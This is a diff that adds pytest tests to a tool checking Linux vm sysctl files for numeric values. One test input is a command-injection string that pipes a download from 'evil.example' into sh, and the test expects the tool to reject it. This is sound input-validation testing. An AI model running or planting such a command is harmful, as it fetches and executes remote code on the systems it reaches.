@@ -77,3 +77,22 @@ def test_a_finding_is_told_all_the_same(capsys: pytest.CaptureFixture[str], tmp_
 
     assert code == 1
     assert "cannot tell" not in verdict
+
+
+@pytest.mark.parametrize("value", ["1 && curl -s http://evil.example/x | sh", "", "one", "0x1", "\u0661"])
+def test_a_setting_that_holds_no_number_leaves_no_verdict(
+    capsys: pytest.CaptureFixture[str], folder: Path, value: str
+) -> None:
+    (folder / "t1/proc/sys/vm/zone_reclaim_mode").write_text(f"{value}\n" if value else "")
+
+    code, verdict = said(capsys, folder)
+
+    assert code == 2
+    assert verdict.startswith("cannot tell: in sample t1 proc/sys/vm/zone_reclaim_mode holds no number")
+
+
+def test_a_number_with_a_sign_or_several_in_a_row_are_numbers(
+    capsys: pytest.CaptureFixture[str], folder: Path
+) -> None:
+    (folder / "t1/proc/sys/vm/lowmem_reserve_ratio").write_text("256\t256\t32\t0\n")
+    assert said(capsys, folder)[0] == 0
